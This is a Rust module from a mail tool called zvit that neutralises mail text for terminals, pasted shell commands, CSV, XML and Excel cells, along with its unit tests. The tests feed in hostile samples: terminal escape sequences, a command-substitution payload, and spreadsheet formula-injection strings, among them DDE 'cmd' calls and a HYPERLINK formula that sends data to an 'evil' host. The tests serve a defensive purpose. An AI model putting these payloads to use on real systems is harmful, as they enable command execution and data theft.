//! Safe output: text from mail made harmless where it leaves zvit — on a terminal, in a
//! command a person pastes into a shell, in a spreadsheet cell, in an XML document. Pure.

use std::borrow::Cow;

/// A character a terminal may act on rather than show: C0 controls, DEL, C1 controls, and the
/// bidirectional overrides and isolates that reorder what is shown (U+202A–U+202E,
/// U+2066–U+2069).
fn is_terminal_control(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn replace_controls(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    let unsafe_char = |c: char| is_terminal_control(c) && !(keep_newlines && c == '\n');
    if !s.chars().any(unsafe_char) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| match c {
                '\n' if keep_newlines => '\n',
                // Spacing characters become a plain space: the text stays readable.
                '\t' | '\n' | '\r' => ' ',
                c if unsafe_char(c) => '\u{fffd}',
                c => c,
            })
            .collect(),
    )
}

/// Text for one line of a terminal: every control character (line breaks and tabs included)
/// replaced — tabs and line breaks by a space, the rest by U+FFFD — so that mail cannot move
/// the cursor, retitle the window, reorder the line or forge another line of output.
pub fn line(s: &str) -> Cow<'_, str> {
    replace_controls(s, false)
}

/// As [`line`], but keeps `\n`: for text printed as several lines on purpose.
pub fn text(s: &str) -> Cow<'_, str> {
    replace_controls(s, true)
}

/// One argument for a POSIX shell: in single quotes, a `'` written as `'\''`. Nothing inside
/// single quotes is expanded, so `$(…)`, backquotes, `;` and globs stay literal.
pub fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// A shell argument as printed on a terminal: quoted, then with control characters replaced
/// (a command that would carry them could not be pasted anyway).
pub fn shell_arg(s: &str) -> String {
    line(&shell_quote(s)).into_owned()
}

/// Whether a spreadsheet would take the cell for a formula: it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (the OWASP rule), and is not a plain number.
fn is_formula_like(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s)
}

/// "-5", "+3.5", "-0,25", "1e3": a number a spreadsheet reads as a value, not a formula.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    !body.is_empty()
        && body.starts_with(|c: char| c.is_ascii_digit() || c == '.' || c == ',')
        && body
            .replace(',', ".")
            .parse::<f64>()
            .is_ok_and(f64::is_finite)
}

/// A CSV cell that a spreadsheet will show as text, never run as a formula: a cell that
/// starts like a formula gets a leading apostrophe; plain numbers stay as they are.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if is_formula_like(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Whether XML 1.0 allows the character (`Char` production): not below U+0020 except tab,
/// line feed and carriage return, and not U+FFFE or U+FFFF (surrogates cannot occur in a
/// Rust string).
fn is_xml_char(c: char) -> bool {
    !matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}')
}

/// Text with the characters XML 1.0 forbids dropped, for documents zvit writes.
pub fn xml_text(s: &str) -> Cow<'_, str> {
    if s.chars().all(is_xml_char) {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(s.chars().filter(|c| is_xml_char(*c)).collect())
    }
}

/// The most characters (UTF-16 code units) an Excel cell holds.
pub const XLSX_CELL_MAX: usize = 32_767;

/// Text for an .xlsx cell: characters XML forbids dropped, and cut (with "…") to what a cell
/// holds, so that a long report text cannot make the workbook fail to build.
pub fn xlsx_cell(s: &str) -> Cow<'_, str> {
    let s = xml_text(s);
    if s.len() <= XLSX_CELL_MAX || s.encode_utf16().count() <= XLSX_CELL_MAX {
        return s;
    }
    let mut out = String::new();
    let mut units = 0;
    for c in s.chars() {
        if units + c.len_utf16() > XLSX_CELL_MAX - 1 {
            break;
        }
        units += c.len_utf16();
        out.push(c);
    }
    out.push('…');
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_text_loses_escapes_bells_c1_and_bidi_overrides() {
        let hostile = "a\u{1b}]0;pwned\u{7}b\u{1b}[2J\u{9b}31m\u{7f}\u{202e}cba\u{2066}x\r\ty";
        let l = line(hostile);
        assert!(!l.chars().any(is_terminal_control), "{l:?}");
        assert_eq!(
            l,
            "a\u{fffd}]0;pwned\u{fffd}b\u{fffd}[2J\u{fffd}31m\u{fffd}\u{fffd}cba\u{fffd}x  y"
        );
        assert_eq!(line("рядок\nдругий"), "рядок другий");
        assert_eq!(text("рядок\nдругий\u{1b}"), "рядок\nдругий\u{fffd}");
        assert!(matches!(line("звичайний «текст» — 5 %"), Cow::Borrowed(_)));
    }

    #[test]
    fn shell_quoting_keeps_command_substitution_literal() {
        assert_eq!(shell_quote("<a@x>"), "'<a@x>'");
        assert_eq!(
            shell_quote("<$(touch${IFS}pwned)@x>"),
            "'<$(touch${IFS}pwned)@x>'"
        );
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_arg("a\u{1b}b"), "'a\u{fffd}b'");
    }

    #[test]
    fn csv_cells_that_look_like_formulas_get_an_apostrophe() {
        for f in [
            "=HYPERLINK(\"http://evil\"&D2,\"x\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "-inf",
            "-NaN",
        ] {
            assert_eq!(csv_cell(f), format!("'{f}"), "{f:?}");
        }
        for plain in [
            "-5",
            "+3.5",
            "-0,25",
            "12",
            "1e3",
            "текст",
            "",
            "a=b",
            "5-3",
        ] {
            assert_eq!(csv_cell(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn xml_text_drops_what_xml_forbids() {
        assert_eq!(
            xml_text("a\u{1}b\u{1b}c\u{fffe}d\u{ffff}e\tf\ng\rh"),
            "abcde\tf\ng\rh"
        );
        assert!(matches!(xml_text("текст"), Cow::Borrowed(_)));
    }

    #[test]
    fn xlsx_cells_are_cut_to_what_excel_holds() {
        let long = "я".repeat(40_000);
        let cut = xlsx_cell(&long);
        assert_eq!(cut.encode_utf16().count(), XLSX_CELL_MAX);
        assert!(cut.ends_with('…'));
        let emoji = "😀".repeat(20_000);
        assert!(xlsx_cell(&emoji).encode_utf16().count() <= XLSX_CELL_MAX);
        assert_eq!(xlsx_cell("коротко\u{1}"), "коротко");
    }
}
